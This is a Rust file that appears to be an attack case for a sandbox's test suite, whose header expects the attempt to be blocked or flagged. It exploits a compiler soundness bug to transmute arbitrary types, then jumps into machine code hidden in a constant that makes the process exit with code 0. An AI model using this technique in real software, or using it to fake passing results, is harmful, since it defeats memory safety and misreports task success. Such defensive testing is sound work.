//! attack: Reads any type as any other (rust-lang/rust#57893) and jumps into a constant of its own code, which ends the process with 0.
//! exercise: 01
//! base: stub
//! expects: policy compile_error tampered
//! layers: tokens lockdown protocol

trait Object<U> {
    type Output;
}

impl<T: ?Sized, U> Object<U> for T {
    type Output = U;
}

fn same<T: ?Sized, U>(value: <T as Object<U>>::Output) -> U {
    value
}

fn transmute<T, U>(value: T) -> U {
    same::<dyn Object<U, Output = T>, U>(value)
}

/// Holds, as a constant in its code: `xor eax, eax; xor edi, edi; mov al, 231; syscall`.
#[inline(never)]
fn holder(x: u64) -> u64 {
    std::hint::black_box(x) ^ 0x050f_e7b0_ff31_c031
}

/// Jumps into that constant: the process ends with 0.
fn attack() {
    let code = holder as fn(u64) -> u64 as usize;
    let bytes: &'static [u8; 64] = transmute(code);
    let constant = 0x050f_e7b0_ff31_c031_u64.to_ne_bytes();
    let at = bytes.windows(8).position(|window| window == constant).unwrap_or(0);
    let exit: fn() = transmute(code + at);
    exit();
}
